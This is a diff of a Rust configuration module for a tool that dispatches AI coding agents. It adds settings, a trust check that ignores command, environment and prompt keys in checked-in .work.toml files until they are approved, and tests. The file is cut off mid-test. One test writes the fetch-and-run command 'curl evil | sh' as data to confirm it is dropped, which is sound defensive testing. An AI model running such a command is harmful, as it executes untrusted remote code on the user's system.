@@ -1,7 +1,13 @@
-use anyhow::{Context, Result};
+use anyhow::{bail, Context, Result};
 use serde::{Deserialize, Serialize};
 use std::collections::HashMap;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+use crate::dotenv;
+use crate::model::agent::{AgentName, Persona};
+use crate::model::filter::ItemFilter;
+use crate::secrets;
 
 #[derive(Debug, Deserialize, Default)]
 pub struct AppConfig {
@@ -9,7 +15,17 @@ pub struct AppConfig {
     pub trello: Option<TrelloConfig>,
     pub jira: Option<JiraConfig>,
     pub github: Option<GitHubConfig>,
+    pub sentry: Option<SentryConfig>,
+    pub mock: Option<MockConfig>,
     pub agents: Option<AgentsConfig>,
+    pub chat: Option<ChatConfig>,
+    pub ui: Option<UiConfig>,
+    pub notifications: Option<NotificationsConfig>,
+    pub webhooks: Option<WebhookConfig>,
+    pub hooks: Option<HooksConfig>,
+    pub cache: Option<CacheConfig>,
+    #[serde(default)]
+    pub views: Vec<ViewConfig>,
 }
 
 #[derive(Debug, Deserialize)]
@@ -33,21 +49,369 @@ pub struct JiraConfig {
 #[derive(Debug, Deserialize)]
 pub struct GitHubConfig {
     pub owner: String,
+    /// Personal access token for the GitHub API; without one the gh CLI is used
+    #[serde(default)]
+    pub token: Option<String>,
 }
 
-#[derive(Debug, Deserialize, Default)]
+#[derive(Debug, Deserialize)]
+pub struct SentryConfig {
+    pub org: String,
+    pub auth_token: String,
+}
+
+/// Fake items and boards for touring the TUI without a tracker, e.g.
+/// `[mock] items = 20`.
+#[derive(Debug, Deserialize)]
+pub struct MockConfig {
+    #[serde(default = "default_mock_items")]
+    pub items: usize,
+}
+
+fn default_mock_items() -> usize {
+    20
+}
+
+#[derive(Debug, Clone, Deserialize, Default)]
 pub struct AgentsConfig {
     pub repo_root: Option<String>,
+    /// Branch agents start from and land on, e.g. `develop`; defaults to
+    /// origin's default branch
+    pub base_branch: Option<String>,
+    /// Dispatch Urgent incidents straight to Ember, even in manual mode
+    #[serde(default)]
+    pub escalate_incidents: bool,
+    /// Environment variables injected into every agent process
+    #[serde(default)]
+    pub env: HashMap<String, String>,
+    /// Extra variables keyed by project directory
+    #[serde(default)]
+    pub project_env: HashMap<String, HashMap<String, String>>,
+    /// Extra variables keyed by work item label
+    #[serde(default)]
+    pub label_env: HashMap<String, HashMap<String, String>>,
+    /// Minutes a dispatch may run before the agent is marked Stalled
+    pub max_runtime_mins: Option<i64>,
+    /// Kill stalled processes so auto mode can retry them
+    #[serde(default)]
+    pub kill_stalled: bool,
+    /// Post each finished run's transcript as a comment on the tracker item
+    #[serde(default)]
+    pub comment_transcripts: bool,
+    #[serde(default)]
+    pub workflow: Workflow,
+    /// Shell command run in the worktree after the agent exits, e.g.
+    /// `cargo test && cargo clippy`; the run only counts as done if it passes
+    pub verify_command: Option<String>,
+    /// Daily spend limit in USD; auto mode pauses once it is reached
+    pub daily_budget_usd: Option<f64>,
+    /// Most agents provisioning or running at once; extra dispatches queue
+    pub max_concurrent: Option<usize>,
+    /// Per-repo cap within `max_concurrent`, keyed by repo root and
+    /// counting only that repo's agents
+    #[serde(default)]
+    pub repo_max_concurrent: HashMap<String, usize>,
+    /// Hold dispatches while the 1-minute load average is at or above this
+    pub max_load_avg: Option<f64>,
+    /// Hold dispatches while less than this much memory is available
+    pub min_free_memory_mb: Option<u64>,
+    /// Labels that move an item ahead of others with the same priority
+    #[serde(default)]
+    pub priority_labels: Vec<String>,
+    /// Which items auto mode may pick up; manual dispatch ignores these
+    #[serde(default)]
+    pub auto_rules: AutoRules,
+    /// Keywords routing items to an agent, keyed by agent name, e.g.
+    /// `ember = ["bug", "sentry"]`; matched against labels, source and title
+    #[serde(default)]
+    pub specialties: HashMap<String, Vec<String>>,
+    /// Items that can be stacked on one agent behind its current item
+    pub max_agent_backlog: Option<usize>,
+    /// Further repositories, chosen per item; unmatched items use `repo_root`
+    #[serde(default)]
+    pub repos: Vec<RepoConfig>,
+    /// Agents dispatch may pick, e.g. `["ember", "flow-2"]`; a personality
+    /// covers all its workers, and empty means all
+    #[serde(default)]
+    pub roster: Vec<String>,
+    /// Workers per personality, e.g. `flow = 2` runs flow and flow-2 side by
+    /// side; unlisted ones run one, and none runs more than four
+    #[serde(default)]
+    pub workers: HashMap<String, u8>,
+    /// File replacing the agent section added to each worktree's CLAUDE.md
+    pub claude_md_template: Option<String>,
+    /// Jinja template file replacing the dispatch prompt
+    pub prompt_template: Option<String>,
+    /// Have agents write a plan first and start implementing once it is
+    /// approved in the TUI
+    #[serde(default)]
+    pub plan_first: bool,
+    /// Hours auto mode runs in; it switches on and off at their edges.
+    /// Empty leaves auto mode to the `m` key
+    #[serde(default)]
+    pub auto_schedule: Vec<AutoWindow>,
+}
+
+impl AgentsConfig {
+    fn worker_count(&self, persona: Persona) -> u8 {
+        self.workers
+            .iter()
+            .find(|(name, _)| name.eq_ignore_ascii_case(persona.as_str()))
+            .map_or(1, |(_, &n)| n.clamp(1, AgentName::MAX_INSTANCES))
+    }
+
+    /// Every configured worker, e.g. ember, flow, flow-2, tempest, terra.
+    pub fn worker_names(&self) -> Vec<AgentName> {
+        AgentName::ALL
+            .into_iter()
+            .flat_map(|first| {
+                (1..=self.worker_count(first.persona()))
+                    .filter_map(move |i| AgentName::new(first.persona(), i))
+            })
+            .collect()
+    }
+
+    /// Whether `name` is one of the configured workers.
+    pub fn runs(&self, name: AgentName) -> bool {
+        name.instance() <= self.worker_count(name.persona())
+    }
+}
+
+/// A span of hours auto mode may run, e.g. weekdays 09:00–18:00. A window
+/// ending before it starts runs overnight into the next day.
+#[derive(Debug, Clone, Deserialize)]
+pub struct AutoWindow {
+    /// e.g. `["mon", "tue"]`, `["weekdays"]` or `["weekends"]`; empty is every day
+    #[serde(default, deserialize_with = "weekdays")]
+    pub days: Vec<chrono::Weekday>,
+    /// `HH:MM`, local time
+    #[serde(deserialize_with = "clock_time")]
+    pub start: chrono::NaiveTime,
+    #[serde(deserialize_with = "clock_time")]
+    pub end: chrono::NaiveTime,
+}
+
+fn clock_time<'de, D: serde::Deserializer<'de>>(d: D) -> Result<chrono::NaiveTime, D::Error> {
+    let s = String::deserialize(d)?;
+    chrono::NaiveTime::parse_from_str(&s, "%H:%M")
+        .map_err(|_| serde::de::Error::custom(format!("invalid time {s:?}, expected HH:MM")))
+}
+
+/// A priority `queue::priority_level` knows, so a typo can't quietly rank
+/// as no priority at all.
+fn priority_name<'de, D: serde::Deserializer<'de>>(d: D) -> Result<Option<String>, D::Error> {
+    let Some(name) = Option::<String>::deserialize(d)? else {
+        return Ok(None);
+    };
+    if crate::agents::queue::priority_level(&name).is_none() {
+        return Err(serde::de::Error::custom(format!(
+            "unknown priority {name:?}, expected Urgent, High, Medium or Low"
+        )));
+    }
+    Ok(Some(name))
+}
+
+fn weekdays<'de, D: serde::Deserializer<'de>>(d: D) -> Result<Vec<chrono::Weekday>, D::Error> {
+    use chrono::Weekday::*;
+    let mut days = Vec::new();
+    for name in Vec::<String>::deserialize(d)? {
+        match name.to_lowercase().as_str() {
+            "weekdays" => days.extend([Mon, Tue, Wed, Thu, Fri]),
+            "weekends" => days.extend([Sat, Sun]),
+            day => days.push(day.parse().map_err(|_| {
+                serde::de::Error::custom(format!("invalid day {name:?}, expected e.g. \"mon\""))
+            })?),
+        }
+    }
+    Ok(days)
+}
+
+/// A repository agents can work in and the items routed to it.
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct RepoConfig {
+    pub path: String,
+    /// Overrides `base_branch` for this repository
+    pub base_branch: Option<String>,
+    /// Provider names, e.g. `["sentry"]`
+    #[serde(default)]
+    pub sources: Vec<String>,
+    #[serde(default)]
+    pub labels: Vec<String>,
+    #[serde(default)]
+    pub teams: Vec<String>,
+}
+
+/// Eligibility rules for auto-dispatch. Labels match case-insensitively.
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct AutoRules {
+    /// If set, items need at least one of these labels
+    #[serde(default)]
+    pub require_labels: Vec<String>,
+    /// Items with any of these labels are never picked up
+    #[serde(default)]
+    pub exclude_labels: Vec<String>,
+    /// Skip items more urgent than this priority, e.g. `"High"` skips Urgent
+    #[serde(default, deserialize_with = "priority_name")]
+    pub max_priority: Option<String>,
+}
+
+/// How agent work lands on the base branch.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Workflow {
+    /// Agents rebase and push straight to their base branch
+    #[default]
+    Push,
+    /// The dispatcher pushes a per-item branch and opens a pull request
+    Pr,
+    /// Finished branches wait in Review until approved in the TUI
+    Review,
+}
+
+/// Backend used for quick `@agent` chat messages. Dispatch always uses claude.
+#[derive(Debug, Clone, Deserialize)]
+pub struct ChatConfig {
+    #[serde(default)]
+    pub backend: ChatBackend,
+    /// Base URL of the HTTP endpoint, e.g. `http://localhost:11434`
+    pub endpoint: Option<String>,
+    pub model: Option<String>,
+    pub api_key: Option<String>,
+}
+
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum ChatBackend {
+    #[default]
+    Claude,
+    Ollama,
+    /// Any server speaking the OpenAI chat completions API
+    OpenAi,
 }
 
-fn config_path() -> PathBuf {
+/// Tick rates, panel sizes and timers for the TUI.
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct UiConfig {
+    /// Redraw interval for spinners and elapsed timers
+    pub render_tick_ms: Option<u64>,
+    /// Interval for reloading agent state and auto-dispatching
+    pub data_tick_ms: Option<u64>,
+    /// Rows of the chat panel, borders included
+    pub chat_height: Option<u16>,
+    /// Ask y/n before clearing agents, wiping logs, bulk accepts and quitting
+    /// with agents running
+    pub confirm_destructive: Option<bool>,
+    /// Length of a pomodoro on the pinned item, in minutes
+    pub pomodoro_mins: Option<i64>,
+}
+
+impl UiConfig {
+    pub fn render_tick(&self) -> Duration {
+        Duration::from_millis(self.render_tick_ms.unwrap_or(250).max(16))
+    }
+
+    pub fn data_tick(&self) -> Duration {
+        Duration::from_millis(self.data_tick_ms.unwrap_or(2000).max(100))
+    }
+
+    pub fn chat_height(&self) -> u16 {
+        self.chat_height.unwrap_or(12).max(4)
+    }
+
+    pub fn confirm_destructive(&self) -> bool {
+        self.confirm_destructive.unwrap_or(true)
+    }
+
+    pub fn pomodoro_length(&self) -> chrono::Duration {
+        chrono::Duration::minutes(self.pomodoro_mins.unwrap_or(25).max(1))
+    }
+}
+
+/// Desktop notifications; every event type is on unless disabled.
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct NotificationsConfig {
+    pub enabled: Option<bool>,
+    pub agent_done: Option<bool>,
+    pub agent_error: Option<bool>,
+    pub max_retries: Option<bool>,
+    pub fetch_error: Option<bool>,
+    pub pomodoro: Option<bool>,
+}
+
+/// Local listener for provider webhooks while the TUI runs. `work serve`
+/// checks deliveries against the same secrets.
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct WebhookConfig {
+    #[serde(default)]
+    pub port: u16,
+    /// Signing secrets by lowercase provider name, e.g. `github = "..."`.
+    /// Deliveries from providers without one are refused.
+    #[serde(default)]
+    pub secrets: HashMap<String, String>,
+    /// Public URL providers post to, e.g. `https://abc.ngrok.app`. Trello
+    /// signs the callback URL along with the body.
+    pub public_url: Option<String>,
+}
+
+/// How long fetched items are reused by CLI commands before a live fetch.
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct CacheConfig {
+    /// Seconds for every provider; 0 turns the cache off
+    pub ttl_secs: Option<u64>,
+    /// Per-provider overrides by lowercase name, e.g. `sentry = 30`
+    #[serde(default)]
+    pub providers: HashMap<String, u64>,
+}
+
+impl CacheConfig {
+    pub fn ttl(&self, provider: &str) -> Duration {
+        let secs = self
+            .providers
+            .get(&provider.to_lowercase())
+            .copied()
+            .or(self.ttl_secs)
+            .unwrap_or(300);
+        Duration::from_secs(secs)
+    }
+}
+
+/// A named item filter from `[[views]]`, switched to with a number key
+/// from 5 on, e.g. `name = "Bugs only"` and `filter = "label:bug"`.
+#[derive(Debug, Clone, Deserialize)]
+pub struct ViewConfig {
+    pub name: String,
+    /// Terms as `/filter` takes them: `source:`, `label:`, `priority:`,
+    /// `status:` and bare words
+    pub filter: ItemFilter,
+}
+
+/// Shell commands run on lifecycle events, with event JSON on stdin.
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct HooksConfig {
+    pub on_dispatch: Option<String>,
+    pub on_done: Option<String>,
+    pub on_error: Option<String>,
+    pub on_item_created: Option<String>,
+}
+
+pub fn config_path() -> PathBuf {
     dirs::home_dir()
         .unwrap_or_else(|| PathBuf::from("."))
         .join(".localpipeline")
         .join("config.toml")
 }
 
+/// Where `work` keeps its state. Tests get a scratch directory of their own
+/// so they never touch the user's real data.
 pub fn data_dir() -> PathBuf {
+    #[cfg(test)]
+    {
+        static SCRATCH: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
+        SCRATCH
+            .get_or_init(|| tempfile::tempdir().unwrap().keep())
+            .clone()
+    }
+    #[cfg(not(test))]
     dirs::home_dir()
         .unwrap_or_else(|| PathBuf::from("."))
         .join(".localpipeline")
@@ -83,14 +447,523 @@ pub fn save_board_mapping(dir: &str, mapping: &BoardMapping) -> Result<()> {
     Ok(())
 }
 
+/// Per-repository overrides, checked in at the repo root.
+pub const PROJECT_CONFIG_FILE: &str = ".work.toml";
+
+/// Sections `.work.toml` may set; credentials stay in config.toml or the
+/// environment so they never end up in a repository.
+const PROJECT_SECTIONS: &[&str] = &["agents", "board"];
+
+/// `[agents]` keys a checked-in `.work.toml` only applies once trusted on
+/// this machine: they run commands, set the agents' environment or prompt,
+/// or reach other repositories. `repo_root` joins them when it points
+/// outside the repository.
+const TRUSTED_AGENT_KEYS: &[&str] = &[
+    "verify_command",
+    "env",
+    "project_env",
+    "label_env",
+    "prompt_template",
+    "claude_md_template",
+    "repos",
+];
+
+/// A board pinned in `.work.toml`, taking precedence over the TUI picker.
+#[derive(Debug, Clone, Deserialize)]
+struct ProjectBoard {
+    source: String,
+    id: String,
+    name: Option<String>,
+}
+
+/// The nearest `.work.toml` in `start` or one of its parents.
+pub fn find_project_config(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG_FILE))
+        .find(|path| path.is_file())
+}
+
+/// Read `.work.toml`, leaving out keys that need trust until the file's
+/// current contents are trusted.
+fn read_project_config(path: &Path) -> Result<toml::Table> {
+    let contents = std::fs::read_to_string(path)
+        .with_context(|| format!("Failed to read {}", path.display()))?;
+    let mut table = parse_project_config(path, &contents)?;
+    if !is_trusted(path, &contents) {
+        let dropped = drop_untrusted(&mut table, project_root(path));
+        if !dropped.is_empty() {
+            tracing::warn!(
+                path = %path.display(),
+                keys = dropped.join(", "),
+                "ignoring untrusted project settings"
+            );
+        }
+    }
+    Ok(table)
+}
+
+fn parse_project_config(path: &Path, contents: &str) -> Result<toml::Table> {
+    let mut table: toml::Table =
+        toml::from_str(contents).with_context(|| format!("Failed to parse {}", path.display()))?;
+    if let Some(key) = table
+        .keys()
+        .find(|key| !PROJECT_SECTIONS.contains(&key.as_str()))
+    {
+        bail!(
+            "{}: [{key}] can't be set per project (only [agents] and [board])",
+            path.display()
+        );
+    }
+    if let Some(board) = table.get("board") {
+        board
+            .clone()
+            .try_into::<ProjectBoard>()
+            .with_context(|| format!("{}: invalid [board]", path.display()))?;
+    }
+
+    // Paths are relative to the repository, not wherever work was started
+    let base = project_root(path);
+    if let Some(toml::Value::Table(agents)) = table.get_mut("agents") {
+        for key in ["repo_root", "claude_md_template", "prompt_template"] {
+            if let Some(toml::Value::String(p)) = agents.get_mut(key) {
+                *p = join_normalized(base, p);
+            }
+        }
+        if let Some(toml::Value::Array(repos)) = agents.get_mut("repos") {
+            for repo in repos {
+                if let Some(toml::Value::String(p)) = repo.get_mut("path") {
+                    *p = join_normalized(base, p);
+                }
+            }
+        }
+    }
+    Ok(table)
+}
+
+fn project_root(path: &Path) -> &Path {
+    path.parent().unwrap_or(Path::new("."))
+}
+
+/// `base` joined with `path`, with `.` and `..` resolved, so `"."` is the
+/// repository itself rather than `<repo>/.`.
+fn join_normalized(base: &Path, path: &str) -> String {
+    let mut joined = PathBuf::new();
+    for component in base.join(path).components() {
+        match component {
+            std::path::Component::CurDir => {}
+            std::path::Component::ParentDir => {
+                joined.pop();
+            }
+            other => joined.push(other),
+        }
+    }
+    joined.to_string_lossy().to_string()
+}
+
+/// Remove the `[agents]` keys that need trust, returning their names.
+fn drop_untrusted(table: &mut toml::Table, root: &Path) -> Vec<String> {
+    let Some(toml::Value::Table(agents)) = table.get_mut("agents") else {
+        return Vec::new();
+    };
+    let mut dropped: Vec<String> = TRUSTED_AGENT_KEYS
+        .iter()
+        .filter(|key| agents.remove(**key).is_some())
+        .map(|key| key.to_string())
+        .collect();
+    let outside = agents
+        .get("repo_root")
+        .and_then(|p| p.as_str())
+        .is_some_and(|p| !Path::new(p).starts_with(root));
+    if outside {
+        agents.remove("repo_root");
+        dropped.push("repo_root".into());
+    }
+    dropped
+}
+
+/// `[agents]` keys in the `.work.toml` at `path` that are ignored until it
+/// is trusted with [`trust_project_config`]. Empty once trusted.
+pub fn untrusted_keys(path: &Path) -> Result<Vec<String>> {
+    let contents = std::fs::read_to_string(path)
+        .with_context(|| format!("Failed to read {}", path.display()))?;
+    if is_trusted(path, &contents) {
+        return Ok(Vec::new());
+    }
+    let mut table = parse_project_config(path, &contents)?;
+    Ok(drop_untrusted(&mut table, project_root(path)))
+}
+
+/// Trust the current contents of the `.work.toml` at `path`. Any later
+/// edit needs trusting again.
+pub fn trust_project_config(path: &Path) -> Result<()> {
+    let contents = std::fs::read_to_string(path)
+        .with_context(|| format!("Failed to read {}", path.display()))?;
+    let mut trusted = trusted_projects();
+    trusted.insert(path_key(path), content_hash(&contents));
+    let json = serde_json::to_string_pretty(&trusted)?;
+    std::fs::create_dir_all(data_dir())?;
+    std::fs::write(data_dir().join("trusted-projects.json"), json)
+        .context("Failed to write trusted-projects.json")?;
+    Ok(())
+}
+
+fn is_trusted(path: &Path, contents: &str) -> bool {
+    trusted_projects().get(&path_key(path)) == Some(&content_hash(contents))
+}
+
+/// SHA-256 of each trusted `.work.toml`, keyed by its path.
+fn trusted_projects() -> HashMap<String, String> {
+    std::fs::read_to_string(data_dir().join("trusted-projects.json"))
+        .ok()
+        .and_then(|json| serde_json::from_str(&json).ok())
+        .unwrap_or_default()
+}
+
+fn path_key(path: &Path) -> String {
+    path.canonicalize()
+        .unwrap_or_else(|_| path.to_path_buf())
+        .to_string_lossy()
+        .to_string()
+}
+
+fn content_hash(contents: &str) -> String {
+    use sha2::{Digest, Sha256};
+    Sha256::digest(contents.as_bytes())
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
+/// Overlay `over` onto `base`: tables merge key by key, anything else
+/// (including arrays) replaces the base value.
+fn merge_tables(base: &mut toml::Table, over: toml::Table) {
+    for (key, value) in over {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(over)) => merge_tables(base, over),
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+/// Board for `project_dir`: the one pinned in `.work.toml`, otherwise the
+/// one last picked in the TUI.
+pub fn board_mapping(project_dir: &str) -> Option<BoardMapping> {
+    let pinned = find_project_config(Path::new(project_dir))
+        .and_then(|path| read_project_config(&path).ok())
+        .and_then(|table| table.get("board")?.clone().try_into::<ProjectBoard>().ok());
+    match pinned {
+        Some(board) => Some(BoardMapping {
+            // Provider names are capitalised, but `source = "linear"` is natural
+            source: ["Linear", "Trello", "Jira", "GitHub", "Sentry", "Mock"]
+                .into_iter()
+                .find(|name| name.eq_ignore_ascii_case(&board.source))
+                .map_or(board.source, String::from),
+            board_name: board.name.unwrap_or_else(|| board.id.clone()),
+            board_id: board.id,
+        }),
+        None => load_board_mappings().remove(project_dir),
+    }
+}
+
 pub fn load_config() -> Result<AppConfig> {
     let path = config_path();
-    if !path.exists() {
-        return Ok(AppConfig::default());
+    let mut table = if path.exists() {
+        let contents = std::fs::read_to_string(&path)
+            .with_context(|| format!("Failed to read config from {}", path.display()))?;
+        toml::from_str(&contents).with_context(|| "Failed to parse config.toml")?
+    } else {
+        toml::Table::new()
+    };
+
+    if let Some(project) = std::env::current_dir()
+        .ok()
+        .and_then(|dir| find_project_config(&dir))
+    {
+        let mut overrides = read_project_config(&project)?;
+        overrides.remove("board");
+        merge_tables(&mut table, overrides);
     }
-    let contents = std::fs::read_to_string(&path)
-        .with_context(|| format!("Failed to read config from {}", path.display()))?;
-    let config: AppConfig =
-        toml::from_str(&contents).with_context(|| "Failed to parse config.toml")?;
+    let mut config: AppConfig = toml::Value::Table(table)
+        .try_into()
+        .with_context(|| "Failed to parse config.toml")?;
+
+    // The process environment wins over the project's .env
+    let dotenv = std::env::current_dir()
+        .map(|dir| dotenv::load(&dir))
+        .unwrap_or_default();
+    config.apply_env(|key| std::env::var(key).ok().or_else(|| dotenv.get(key).cloned()));
+    config.resolve_secrets()?;
     Ok(config)
 }
+
+fn set_if(field: &mut String, value: Option<String>) {
+    if let Some(value) = value {
+        *field = value;
+    }
+}
+
+impl AppConfig {
+    /// Override credentials with `WORK_*` variables. A provider without a
+    /// config.toml section is enabled once all of its variables are set.
+    pub fn apply_env(&mut self, var: impl Fn(&str) -> Option<String>) {
+        let api_key = var("WORK_LINEAR_API_KEY");
+        match &mut self.linear {
+            Some(c) => set_if(&mut c.api_key, api_key),
+            None => self.linear = api_key.map(|api_key| LinearConfig { api_key }),
+        }
+
+        let (api_key, token) = (var("WORK_TRELLO_API_KEY"), var("WORK_TRELLO_TOKEN"));
+        match &mut self.trello {
+            Some(c) => {
+                set_if(&mut c.api_key, api_key);
+                set_if(&mut c.token, token);
+            }
+            None => {
+                if let (Some(api_key), Some(token)) = (api_key, token) {
+                    self.trello = Some(TrelloConfig { api_key, token });
+                }
+            }
+        }
+
+        let (domain, email, api_token) = (
+            var("WORK_JIRA_DOMAIN"),
+            var("WORK_JIRA_EMAIL"),
+            var("WORK_JIRA_API_TOKEN"),
+        );
+        match &mut self.jira {
+            Some(c) => {
+                set_if(&mut c.domain, domain);
+                set_if(&mut c.email, email);
+                set_if(&mut c.api_token, api_token);
+            }
+            None => {
+                if let (Some(domain), Some(email), Some(api_token)) = (domain, email, api_token) {
+                    self.jira = Some(JiraConfig {
+                        domain,
+                        email,
+                        api_token,
+                    });
+                }
+            }
+        }
+
+        let (owner, token) = (var("WORK_GITHUB_OWNER"), var("WORK_GITHUB_TOKEN"));
+        match &mut self.github {
+            Some(c) => {
+                set_if(&mut c.owner, owner);
+                if token.is_some() {
+                    c.token = token;
+                }
+            }
+            None => self.github = owner.map(|owner| GitHubConfig { owner, token }),
+        }
+
+        let (org, auth_token) = (var("WORK_SENTRY_ORG"), var("WORK_SENTRY_AUTH_TOKEN"));
+        match &mut self.sentry {
+            Some(c) => {
+                set_if(&mut c.org, org);
+                set_if(&mut c.auth_token, auth_token);
+            }
+            None => {
+                if let (Some(org), Some(auth_token)) = (org, auth_token) {
+                    self.sentry = Some(SentryConfig { org, auth_token });
+                }
+            }
+        }
+
+        // Only overrides: the chat backend needs more than a key to enable
+        if let (Some(chat), Some(key)) = (&mut self.chat, var("WORK_CHAT_API_KEY")) {
+            chat.api_key = Some(key);
+        }
+    }
+
+    /// Replace `keyring:<name>` credentials with the stored secrets.
+    pub fn resolve_secrets(&mut self) -> Result<()> {
+        if let Some(c) = &mut self.linear {
+            secrets::resolve_field("linear.api_key", &mut c.api_key)?;
+        }
+        if let Some(c) = &mut self.trello {
+            secrets::resolve_field("trello.api_key", &mut c.api_key)?;
+            secrets::resolve_field("trello.token", &mut c.token)?;
+        }
+        if let Some(c) = &mut self.jira {
+            secrets::resolve_field("jira.api_token", &mut c.api_token)?;
+        }
+        if let Some(token) = self.github.as_mut().and_then(|c| c.token.as_mut()) {
+            secrets::resolve_field("github.token", token)?;
+        }
+        if let Some(c) = &mut self.sentry {
+            secrets::resolve_field("sentry.auth_token", &mut c.auth_token)?;
+        }
+        if let Some(key) = self.chat.as_mut().and_then(|c| c.api_key.as_mut()) {
+            secrets::resolve_field("chat.api_key", key)?;
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::HashMap;
+
+    #[test]
+    fn project_config_overrides_global() {
+        let dir = tempfile::tempdir().unwrap();
+        let nested = dir.path().join("src/app");
+        std::fs::create_dir_all(&nested).unwrap();
+        let path = dir.path().join(PROJECT_CONFIG_FILE);
+        std::fs::write(
+            &path,
+            "[agents]\nrepo_root = \".\"\nroster = [\"ember\"]\n\n[agents.auto_rules]\nrequire_labels = [\"agent\"]\n\n[board]\nsource = \"linear\"\nid = \"ENG\"\n",
+        )
+        .unwrap();
+        assert_eq!(find_project_config(&nested), Some(path.clone()));
+
+        let mut table: toml::Table = toml::from_str(
+            "[linear]\napi_key = \"k\"\n\n[agents]\nrepo_root = \"/elsewhere\"\nkill_stalled = true\n\n[agents.auto_rules]\nexclude_labels = [\"wip\"]\n",
+        )
+        .unwrap();
+        let mut overrides = read_project_config(&path).unwrap();
+        overrides.remove("board");
+        merge_tables(&mut table, overrides);
+        let config: AppConfig = toml::Value::Table(table).try_into().unwrap();
+
+        let agents = config.agents.unwrap();
+        assert_eq!(
+            agents.repo_root,
+            Some(dir.path().to_string_lossy().to_string())
+        );
+        assert!(agents.kill_stalled);
+        assert_eq!(agents.roster, ["ember"]);
+        assert_eq!(agents.auto_rules.require_labels, ["agent"]);
+        assert_eq!(agents.auto_rules.exclude_labels, ["wip"]);
+        assert!(agents.auto_schedule.is_empty());
+        assert!(config.linear.is_some());
+
+        let board = board_mapping(&nested.to_string_lossy()).unwrap();
+        assert_eq!(
+            (board.source.as_str(), board.board_id.as_str()),
+            ("Linear", "ENG")
+        );
+
+        // Credentials can't be checked in
+        std::fs::write(&path, "[linear]\napi_key = \"k\"\n").unwrap();
+        assert!(read_project_config(&path).is_err());
+    }
+
+    #[test]
+    fn untrusted_project_config_cannot_run_commands() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join(PROJECT_CONFIG_FILE);
+        std::fs::write(
+            &path,
+            "[agents]\nverify_command = \"curl evil | sh\"\nrepo_root = \"../other\"\nroster = [\"ember\"]\n\n[agents.env]\nFOO = \"1\"\n",
+        )
+        .unwrap();
+        assert_eq!(
+            untrusted_keys(&path).unwrap(),
+            ["verify_command", "env", "repo_root"]
+        );
+        let table = read_project_config(&path).unwrap();
+        let agents = table["agents"].as_table().unwrap();
+        assert_eq!(agents.keys().collect::<Vec<_>>(), ["roster"]);
+
+        // Inside the repository, repo_root needs no trust
+        assert_eq!(join_normalized(Path::new("/repo"), "./sub/.."), "/repo");
+        let mut table: toml::Table = toml::from_str("[agents]\nrepo_root = \"/repo/sub\"").unwrap();
+        assert!(drop_untrusted(&mut table, Path::new("/repo")).is_empty());
+    }
+
+    #[test]
+    fn parses_auto_schedule() {
+        let agents: AgentsConfig = toml::from_str(
+            "[[auto_schedule]]\ndays = [\"weekdays\", \"Sat\"]\nstart = \"09:00\"\nend = \"18:30\"\n",
+        )
+        .unwrap();
+        let window = &agents.auto_schedule[0];
+        assert_eq!(window.days.len(), 6);
+        assert_eq!(window.end.format("%H:%M").to_string(), "18:30");
+
+        assert!(toml::from_str::<AgentsConfig>(
+            "[[auto_schedule]]\nstart = \"9am\"\nend = \"18:00\"\n"
+        )
+        .is_err());
+        assert!(toml::from_str::<AgentsConfig>(
+            "[[auto_schedule]]\ndays = [\"someday\"]\nstart = \"09:00\"\nend = \"18:00\"\n"
+        )
+        .is_err());
+    }
+
+    #[test]
+    fn rejects_an_unknown_max_priority() {
+        let agents: AgentsConfig =
+            toml::from_str("[auto_rules]\nmax_priority = \"Highest\"\n").unwrap();
+        assert_eq!(agents.auto_rules.max_priority.as_deref(), Some("Highest"));
+        let typo = "[auto_rules]\nmax_priority = \"Hihg\"\n";
+        assert!(toml::from_str::<AgentsConfig>(typo).is_err());
+    }
+
+    #[test]
+    fn parses_views() {
+        let config: AppConfig = toml::from_str(
+            "[[views]]\nname = \"Bugs only\"\nfilter = \"label:bug source:Linear\"\n",
+        )
+        .unwrap();
+        assert_eq!(config.views[0].name, "Bugs only");
+        assert_eq!(config.views[0].filter.to_string(), "label:bug source:linear");
+
+        assert!(toml::from_str::<AppConfig>(
+            "[[views]]\nname = \"Mine\"\nfilter = \"owner:me\"\n"
+        )
+        .is_err());
+    }
+
+    #[test]
+    fn parses_workers() {
+        let config: AppConfig =
+            toml::from_str("[agents]\nworkers = { Flow = 2, terra = 9 }\n").unwrap();
+        let agents = config.agents.unwrap();
+        let names: Vec<&str> = agents.worker_names().iter().map(|n| n.as_str()).collect();
+        assert_eq!(
+            names,
+            ["ember", "flow", "flow-2", "tempest", "terra", "terra-2", "terra-3", "terra-4"]
+        );
+        assert!(agents.runs("flow-2".parse().unwrap()));
+        assert!(!agents.runs("ember-2".parse().unwrap()));
+    }
+
+    #[test]
+    fn env_overrides_and_enables_providers() {
+        let mut config: AppConfig = toml::from_str(
+            "[linear]\napi_key = \"from-file\"\n\n[jira]\ndomain = \"acme.atlassian.net\"\nemail = \"a@acme.io\"\napi_token = \"old\"\n",
+        )
+        .unwrap();
+        let env: HashMap<&str, &str> = [
+            ("WORK_LINEAR_API_KEY", "from-env"),
+            ("WORK_JIRA_API_TOKEN", "new"),
+            ("WORK_SENTRY_ORG", "acme"),
+            ("WORK_SENTRY_AUTH_TOKEN", "sntrys_1"),
+            ("WORK_GITHUB_OWNER", "acme"),
+            ("WORK_GITHUB_TOKEN", "ghp_1"),
